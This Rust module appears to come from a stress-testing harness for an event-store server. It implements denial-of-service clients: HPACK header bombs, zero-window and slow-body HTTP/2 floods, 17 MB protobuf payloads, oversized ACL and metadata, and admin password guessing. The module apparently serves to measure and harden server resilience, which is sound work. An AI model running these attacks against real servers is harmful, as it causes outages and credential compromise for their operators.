//! [`Attack`]: the kinds of hostile clients.

use std::net::SocketAddr;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use futures_util::future::join_all;
use futures_util::stream;
use prost::Message;
use prost::bytes::{Buf, BufMut};
use prost::encoding::{DecodeContext, WireType, encode_varint};
use prost::{DecodeError, bytes::Bytes};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use umbel_proto::kv;
use umbel_proto::persistent::{
    self, CreateOptions, CreateReq, GroupOrigin, ReadOptions, ReadReq, ReadReqContent,
    ReadStreamOption, Settings,
};
use umbel_proto::read_options::{at_most, of_stream};
use umbel_proto::streams::BatchAppendReq;
use umbel_proto::streams::batch_append_req::{Expected, Options as BatchOptions};
use umbel_proto::streams::read_req::{RevisionOption, StreamOptions, UuidForm, UuidOption};
use umbel_testing::server_connection::{Connection, STREAMS};

use crate::client::{self, MALLORY, PASSWORD};
use crate::raw_http2::{
    DATA, END, END_HEADERS, HEADERS, INITIAL_WINDOW, RawHttp2, call, frame, header, message,
};

/// Service of the second protocol.
const RECORDS: &str = "kurrentdb.protocol.v2.streams.StreamsService";
/// Pause after a refused call or a closed connection.
const PAUSE: Duration = Duration::from_millis(20);
/// Calls of wrong passwords on one connection.
const GUESSES: usize = 400;
/// Bytes of a message just under the limit.
const MESSAGE_BYTES: usize = 17_000_000;

/// A kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    OrdinaryReads,
    OrdinaryAppends,
    MetadataTrees,
    LongAcls,
    ConsoleAppends,
    CorrelationIds,
    GuessesOfOne,
    GuessesOfMany,
    ZeroWindows,
    HpackBombs,
    SlowBodies,
    EmptyEvents,
    SmallEvents,
    SwellingRecords,
    SmallWrites,
    Growth,
}

impl Attack {
    /// All attacks.
    pub const ALL: [Attack; 16] = [
        Attack::OrdinaryReads,
        Attack::OrdinaryAppends,
        Attack::MetadataTrees,
        Attack::LongAcls,
        Attack::ConsoleAppends,
        Attack::CorrelationIds,
        Attack::GuessesOfOne,
        Attack::GuessesOfMany,
        Attack::ZeroWindows,
        Attack::HpackBombs,
        Attack::SlowBodies,
        Attack::EmptyEvents,
        Attack::SmallEvents,
        Attack::SwellingRecords,
        Attack::SmallWrites,
        Attack::Growth,
    ];

    /// Name of the attack.
    pub fn name(self) -> &'static str {
        match self {
            Attack::OrdinaryReads => "ordinary-reads",
            Attack::OrdinaryAppends => "ordinary-appends",
            Attack::MetadataTrees => "metadata-trees",
            Attack::LongAcls => "long-acls",
            Attack::ConsoleAppends => "console-appends",
            Attack::CorrelationIds => "correlation-ids",
            Attack::GuessesOfOne => "guesses-one-connection",
            Attack::GuessesOfMany => "guesses-many-connections",
            Attack::ZeroWindows => "zero-windows",
            Attack::HpackBombs => "hpack-bombs",
            Attack::SlowBodies => "slow-bodies",
            Attack::EmptyEvents => "empty-events",
            Attack::SmallEvents => "small-events",
            Attack::SwellingRecords => "swelling-records",
            Attack::SmallWrites => "small-writes",
            Attack::Growth => "growth",
        }
    }

    /// The calls that an attacker repeats.
    pub fn description(self) -> &'static str {
        match self {
            Attack::OrdinaryReads => "no attack, for comparison: reads of one event",
            Attack::OrdinaryAppends => "no attack, for comparison: appends of one small event",
            Attack::MetadataTrees => {
                "appends of `{\"x\":[{\"\":0},…]}` as stream metadata: 250 KiB, and 7.9 MiB"
            }
            Attack::LongAcls => "reads of 40 streams whose ACLs have 60 KiB of names, in turns",
            Attack::ConsoleAppends => "`POST /console/api/append` of 1 MiB of `{},`",
            Attack::CorrelationIds => {
                "appends with 250 KiB of `$correlationId` to the stream of a group with the \
                 strategy PinnedByCorrelation, and its consumers"
            }
            Attack::GuessesOfOne => {
                "400 calls of different wrong passwords at once, on a connection"
            }
            Attack::GuessesOfMany => "one wrong password on each new connection",
            Attack::ZeroWindows => "16 reads of 1 MiB events with a flow-control window of 0",
            Attack::HpackBombs => "headers that expand to 32 MB by references to the HPACK table",
            Attack::SlowBodies => {
                "64 appends of 16 MiB on a connection, a byte of each every 10 ms"
            }
            Attack::EmptyEvents => "a BatchAppend message of 17 MB of empty events",
            Attack::SmallEvents => {
                "a BatchAppend message of 100,000 smallest events, to a wrong revision"
            }
            Attack::SwellingRecords => {
                "an AppendRecords message of 17 MB: a property with a list of nulls"
            }
            Attack::SmallWrites => "a `KeyValue/Batch` message of 17 MB of deletes of one byte",
            Attack::Growth => "appends of 64 KiB without end",
        }
    }

    /// The work of background clients.
    pub fn work(self) -> String {
        format!("attack:{}", self.name())
    }

    /// Reads the work of background clients.
    pub fn parse(work: &str) -> Option<Attack> {
        let name = work.strip_prefix("attack:")?;
        Attack::ALL.into_iter().find(|attack| attack.name() == name)
    }

    /// Writes what the attack needs.
    pub async fn prepare(self, address: SocketAddr) -> Result<(), String> {
        let failed = |status: tonic::Status| format!("preparing {}: {status}", self.name());
        let admin = client::connect(address, "admin").await?;
        match self {
            Attack::LongAcls => {
                for number in 0..40 {
                    let names: Vec<String> =
                        (0..15).map(|name| format!("\"{name}-{}\"", "n".repeat(4090))).collect();
                    let acl = format!("{{\"$acl\":{{\"$r\":[\"$all\",{}]}}}}", names.join(","));
                    let event = client::event("$metadata", acl.into_bytes(), Vec::new());
                    let stream = format!("$$acl-{number}");
                    client::append(&admin, &stream, event).await.map_err(failed)?;
                    let event = client::event("Read", b"1".to_vec(), Vec::new());
                    let stream = format!("acl-{number}");
                    client::append(&admin, &stream, event).await.map_err(failed)?;
                }
            }
            Attack::ZeroWindows => {
                for _ in 0..16 {
                    let event = client::event("Large", vec![b' '; 1 << 20], Vec::new());
                    client::append(&admin, "large", event).await.map_err(failed)?;
                }
            }
            Attack::CorrelationIds => create_group(&admin).await.map_err(failed)?,
            _ => {}
        }
        Ok(())
    }

    /// Attacks until the process ends.
    pub async fn run(
        self,
        address: SocketAddr,
        number: usize,
        counted: &(impl Fn(u64) + Sync),
    ) -> Result<(), String> {
        let messages = self.messages();
        loop {
            let is_done = match self {
                Attack::ConsoleAppends => console_append(address, counted).await.is_ok(),
                Attack::GuessesOfOne => guess(address, number, GUESSES, counted).await.is_ok(),
                Attack::GuessesOfMany => guess(address, number, 1, counted).await.is_ok(),
                Attack::ZeroWindows => zero_window(address, counted).await.is_ok(),
                Attack::HpackBombs => hpack_bomb(address, counted).await.is_ok(),
                Attack::SlowBodies => slow_bodies(address, counted).await.is_ok(),
                Attack::CorrelationIds if number < 4 => consume(address, counted).await.is_ok(),
                _ => self.call_repeatedly(address, number, &messages, counted).await.is_ok(),
            };
            if !is_done {
                tokio::time::sleep(PAUSE).await;
            }
        }
    }

    /// The messages of attacks that repeat one call.
    fn messages(self) -> Vec<RawMessage> {
        let raw = |bytes: Vec<u8>| RawMessage(bytes.into());
        match self {
            Attack::EmptyEvents => vec![raw([batch_head(), empty(3)].concat())],
            Attack::SmallEvents => vec![raw([batch_head(), small_events()].concat())],
            Attack::SwellingRecords => {
                let list = field(6, &field(1, &[]).repeat(MESSAGE_BYTES / 2));
                let property = field(2, &[field(1, b"p"), field(2, &list)].concat());
                let schema = field(3, &[8, 1, 18, 1, b't']);
                vec![raw(field(1, &[field(5, b"s"), schema, property].concat()))]
            }
            Attack::SmallWrites => vec![raw(field(1, &field(3, b"k")).repeat(MESSAGE_BYTES / 5))],
            _ => Vec::new(),
        }
    }

    async fn call_repeatedly(
        self,
        address: SocketAddr,
        number: usize,
        messages: &[RawMessage],
        counted: &(impl Fn(u64) + Sync),
    ) -> Result<(), String> {
        let user = if self == Attack::SmallWrites { "ops" } else { MALLORY };
        let connection = client::connect(address, user).await?;
        let mut trees = [tree(250 << 10), tree(7_900 << 10)].into_iter().cycle();
        for round in 0_u64.. {
            let ended = match self {
                Attack::MetadataTrees => {
                    let event =
                        client::event("$metadata", trees.next().unwrap_or_default(), vec![]);
                    client::append(&connection, &format!("$$m-{number}"), event).await
                }
                Attack::OrdinaryReads => read_one(&connection, "honest-1").await,
                Attack::OrdinaryAppends => {
                    let event = client::event("Ordinary", b"{\"amount\":17}".to_vec(), Vec::new());
                    client::append(&connection, &format!("ordinary-{number}"), event).await
                }
                Attack::LongAcls => {
                    let stream = format!("acl-{}", (number as u64 + round) % 40);
                    read_one(&connection, &stream).await
                }
                Attack::CorrelationIds => {
                    let id = "\\u00e4".repeat((250 << 10) / 6);
                    let metadata = format!("{{\"$correlationId\":\"{id}\"}}").into_bytes();
                    let event = client::event("Correlated", b"1".to_vec(), metadata);
                    client::append(&connection, "correlated", event).await
                }
                Attack::Growth => {
                    let event = client::event("Grown", vec![b' '; 64 << 10], Vec::new());
                    client::append(&connection, &format!("grown-{number}"), event).await
                }
                Attack::SwellingRecords => {
                    connection.unary(RECORDS, "AppendRecords", messages[0].clone()).await
                }
                Attack::SmallWrites => {
                    connection.unary(kv::SERVICE, "Batch", messages[0].clone()).await
                }
                _ => {
                    let parts = stream::iter([messages[0].clone()]);
                    let answers =
                        connection.streaming::<_, RawMessage, _>(STREAMS, "BatchAppend", parts);
                    match answers.await {
                        Ok(mut answers) => answers.message().await.map(drop),
                        Err(status) => Err(status),
                    }
                }
            };
            counted(1);
            if let Err(status) = ended
                && status.code() == tonic::Code::Unavailable
            {
                return Err(status.to_string());
            }
        }
        Ok(())
    }
}

/// A message of any bytes.
#[derive(Debug, Default, Clone)]
pub struct RawMessage(Bytes);

impl Message for RawMessage {
    fn encode_raw(&self, out: &mut impl BufMut) {
        out.put_slice(&self.0);
    }

    fn merge_field(
        &mut self,
        _: u32,
        _: WireType,
        bytes: &mut impl Buf,
        _: DecodeContext,
    ) -> Result<(), DecodeError> {
        bytes.advance(bytes.remaining());
        Ok(())
    }

    fn encoded_len(&self) -> usize {
        self.0.len()
    }

    fn clear(&mut self) {
        self.0.clear();
    }
}

fn field(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag << 3 | 2];
    encode_varint(content.len() as u64, &mut out);
    out.extend_from_slice(content);
    out
}

/// Empty elements.
fn empty(tag: u8) -> Vec<u8> {
    field(tag, &[]).repeat((MESSAGE_BYTES - 1000) / 2)
}

/// Identifier and options of a batch whose expected revision is wrong.
fn batch_head() -> Vec<u8> {
    let options = BatchOptions {
        stream_identifier: Some("batches".into()),
        expected_stream_position: Some(Expected::StreamPosition(1_000_000)),
        deadline_option: None,
    };
    let head = BatchAppendReq {
        correlation_id: Some(client::new_id()),
        options: Some(options),
        proposed_messages: Vec::new(),
        is_final: true,
    };
    head.encode_to_vec()
}

/// The smallest valid events, as many as an append may have.
fn small_events() -> Vec<u8> {
    let pair = |key: &[u8], value: &[u8]| field(2, &[field(1, key), field(2, value)].concat());
    let id = field(1, &field(1, &[]));
    let event = [id, pair(b"type", b"t"), pair(b"content-type", b"")].concat();
    field(3, &event).repeat(100_000)
}

fn tree(bytes: usize) -> Vec<u8> {
    let parts = "{\"\":0},".repeat(bytes / 7);
    format!("{{\"x\":[{}]}}", parts.trim_end_matches(',')).into_bytes()
}

async fn read_one(connection: &Connection, stream: &str) -> Result<(), tonic::Status> {
    let options = at_most(1, of_stream(stream, RevisionOption::Start(())));
    let mut answers = connection.subscribe(options).await?;
    while answers.message().await?.is_some() {}
    Ok(())
}

async fn create_group(admin: &Connection) -> Result<(), tonic::Status> {
    let options = CreateOptions {
        stream_identifier: None,
        group_name: "pinned".to_string(),
        settings: Some(group_settings()),
        stream_option: Some(GroupOrigin::Stream(StreamOptions {
            stream_identifier: Some("correlated".into()),
            revision_option: Some(RevisionOption::Start(())),
        })),
    };
    let request = CreateReq { options: Some(options) };
    admin.unary::<_, ()>(persistent::SERVICE, "Create", request).await
}

/// Settings of a group that keeps all events of a correlation at one consumer.
pub fn group_settings() -> Settings {
    Settings {
        resolve_links: true,
        message_timeout: Some(persistent::MessageTimeout::MessageTimeoutMs(30_000)),
        max_retry_count: 10,
        checkpoint_after: Some(persistent::CheckpointAfter::CheckpointAfterMs(2000)),
        min_checkpoint_count: 10,
        max_checkpoint_count: 1000,
        live_buffer_size: 500,
        read_batch_size: 20,
        history_buffer_size: 500,
        consumer_strategy: "PinnedByCorrelation".to_string(),
        ..Settings::default()
    }
}

/// Joins the group and takes events without acknowledging them.
async fn consume(address: SocketAddr, counted: &(impl Fn(u64) + Sync)) -> Result<(), String> {
    let connection = client::connect(address, MALLORY).await?;
    let stream = ReadStreamOption::StreamIdentifier("correlated".into());
    join_group(&connection, stream, "pinned", Duration::from_secs(3600), counted)
        .await
        .map_err(|status| status.to_string())
}

/// Joins a group and takes its events for some time.
pub async fn join_group(
    connection: &Connection,
    stream: ReadStreamOption,
    group: &str,
    time: Duration,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), tonic::Status> {
    let options = ReadOptions {
        stream_option: Some(stream),
        group_name: group.to_string(),
        buffer_size: 100,
        uuid_option: Some(UuidOption { content: Some(UuidForm::Structured(())) }),
    };
    let first = ReadReq { content: Some(ReadReqContent::Options(options)) };
    let requests = futures_util::StreamExt::chain(stream::iter([first]), stream::pending());
    let mut answers = connection
        .streaming::<_, persistent::ReadResp, _>(persistent::SERVICE, "Read", requests)
        .await?;
    let until = tokio::time::Instant::now() + time;
    while let Ok(answer) = tokio::time::timeout_at(until, answers.message()).await {
        if answer?.is_none() {
            break;
        }
        counted(1);
    }
    Ok(())
}

/// Appends by the console over HTTP/1.1.
async fn console_append(
    address: SocketAddr,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), std::io::Error> {
    let data = "{},".repeat((1 << 20) / 3 - 100);
    let body = format!("{{\"stream\":\"console\",\"type\":\"t\",\"data\":\"[{data}{{}}]\"}}");
    let head = format!(
        "POST /console/api/append HTTP/1.1\r\nhost: {address}\r\nauthorization: {}\r\n\
         content-type: application/json\r\nx-umbel-console: 1\r\ncontent-length: {}\r\n\r\n",
        basic(MALLORY, PASSWORD),
        body.len()
    );
    let mut stream = TcpStream::connect(address).await?;
    loop {
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(body.as_bytes()).await?;
        if stream.read(&mut [0; 4096]).await? == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        counted(1);
    }
}

/// The authorization header of a user.
fn basic(user: &str, password: &str) -> String {
    format!("Basic {}", STANDARD.encode(format!("{user}:{password}")))
}

/// Calls with different wrong passwords at once, on one connection.
async fn guess(
    address: SocketAddr,
    number: usize,
    guesses: usize,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), String> {
    let connection = client::connect_with(address, "admin", "wrong").await?;
    let calls = (0..guesses).map(|guess| {
        let mut connection = connection.clone();
        async move {
            let password = format!("{number}-{guess}-{:?}", client::new_id());
            connection.authorization = basic("admin", &password).parse().ok();
            let _ = read_one(&connection, "honest-1").await;
            counted(1);
        }
    });
    join_all(calls).await;
    Ok(())
}

async fn zero_window(
    address: SocketAddr,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), std::io::Error> {
    let mut raw = RawHttp2::connect(address, &[(INITIAL_WINDOW, 0)]).await?;
    let options = Some(of_stream("large", RevisionOption::Start(())));
    let request = umbel_proto::streams::ReadReq { options }.encode_to_vec();
    let headers = call(&format!("/{STREAMS}/Read"), &basic(MALLORY, PASSWORD));
    for stream in (1..32).step_by(2) {
        raw.send(&frame(HEADERS, END_HEADERS, stream, &headers)).await?;
        raw.send(&frame(DATA, END, stream, &message(&request))).await?;
        counted(1);
    }
    raw.read_to_end().await;
    Ok(())
}

async fn hpack_bomb(
    address: SocketAddr,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), std::io::Error> {
    let mut raw = RawHttp2::connect(address, &[]).await?;
    // The first entry of the dynamic table has the index 62; each reference is one byte.
    let stored = header(0x40, "x", &"v".repeat(3900));
    let references = vec![0x80 | 62; 8000];
    let path = format!("/{STREAMS}/Read");
    for stream in (1..200).step_by(2) {
        let own = call(&path, &basic(MALLORY, PASSWORD));
        let block = [&own[..], &stored, &references].concat();
        raw.send(&frame(HEADERS, END_HEADERS, stream, &block)).await?;
        raw.drain()?;
        counted(1);
    }
    raw.read_to_end().await;
    Ok(())
}

async fn slow_bodies(
    address: SocketAddr,
    counted: &(impl Fn(u64) + Sync),
) -> Result<(), std::io::Error> {
    let mut raw = RawHttp2::connect(address, &[]).await?;
    let headers = call(&format!("/{STREAMS}/Append"), &basic(MALLORY, PASSWORD));
    let streams = || (1..128).step_by(2);
    for stream in streams() {
        raw.send(&frame(HEADERS, END_HEADERS, stream, &headers)).await?;
        raw.send(&frame(DATA, 0, stream, &[0, 1, 0, 0, 0])).await?;
    }
    loop {
        for stream in streams() {
            raw.send(&frame(DATA, 0, stream, &[0x12])).await?;
            counted(1);
        }
        raw.drain()?;
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}
